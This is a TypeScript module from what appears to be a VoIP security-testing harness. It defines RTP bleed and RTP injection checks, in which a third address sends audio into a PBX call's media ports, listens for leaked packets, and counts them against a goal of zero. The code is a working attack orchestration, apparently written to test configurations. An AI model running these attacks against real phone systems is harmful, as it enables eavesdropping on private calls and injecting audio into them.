import type { UserAgent } from "../peers/user-agent";
import { above, type Attack } from "./attack";
import { withStolen } from "./insider";
import { useTool } from "./stranger";
import { freshSource, type Target } from "./target";

interface Heard {
  readonly heard: Readonly<Record<string, number>>;
}

/** What each of them says, as the byte that fills its packets. */
const voice = { caller: 17, called: 34, attacker: 102 };
const seconds = 4;

const portOf = (sdp = "") => Number(/^m=audio (\d+) /m.exec(sdp)?.[1] ?? 0);
const count = ({ heard }: Heard, byte: number) => heard[String(byte)] ?? 0;

/** Sends `byte` from an agent's audio port to the PBX's, and listens there. */
function talk(target: Target, { account, mediaPort }: UserAgent, byte: number, ports: readonly number[]) {
  const job = { address: account.address, port: mediaPort, seconds, byte, target: target.address, ports };
  return useTool<Heard>(target, "media.py", job, "office");
}

/** Two phones are in a call, the called one silent unless `both`; a third address, which knows the ports, sends into both streams. */
function intrude(target: Target, both: boolean) {
  return withStolen(target, 2, async (caller, called) => {
    called.mediaPort = caller.mediaPort + 10;
    const call = await caller.call(called.account.number);
    const [callerPort, calledPort] = [portOf(call.response?.body), portOf(called.received[0]?.body)];
    if (callerPort === 0 || calledPort === 0) throw new Error(`there was no call to intrude on: ${call.status}`);
    const intruder = { address: freshSource(target), port: 40000, seconds, byte: voice.attacker };
    const [atCaller, atCalled, atAttacker] = await Promise.all([
      talk(target, caller, voice.caller, [callerPort]),
      talk(target, called, voice.called, both ? [calledPort] : []),
      useTool<Heard>(target, "media.py", { ...intruder, target: target.address, ports: [callerPort, calledPort] }),
    ]);
    await caller.hangUp(call);
    return { atCaller, atCalled, atAttacker };
  });
}

/** Somebody at a third address sends audio into a call whose called side has not spoken yet, and listens. */
export const rtpBleed: Attack = {
  name: "rtp-bleed",
  what: "sends audio from a third address into a call whose called side is silent, and listens what comes back",
  measures: "packets of the call leaked",
  goal: "0",
  weak: ["tutorial22"],
  sample: true,
  run: async (target) => {
    const { atAttacker } = await intrude(target, false);
    return above(0, count(atAttacker, voice.caller) + count(atAttacker, voice.called));
  },
};

/** Somebody at a third address speaks into a call in which both sides talk. */
export const rtpInjection: Attack = {
  name: "rtp-injection",
  what: "sends audio from a third address into a call in which both sides talk",
  measures: "foreign packets that a phone was sent",
  goal: "0",
  weak: ["careless22"],
  run: async (target) => {
    const { atCaller, atCalled } = await intrude(target, true);
    const own = count(atCaller, voice.called) + count(atCalled, voice.caller);
    if (own === 0) throw new Error("the phones did not hear each other, so nothing was tried");
    return above(0, count(atCaller, voice.attacker) + count(atCalled, voice.attacker), `${own} packets of the call`);
  },
};
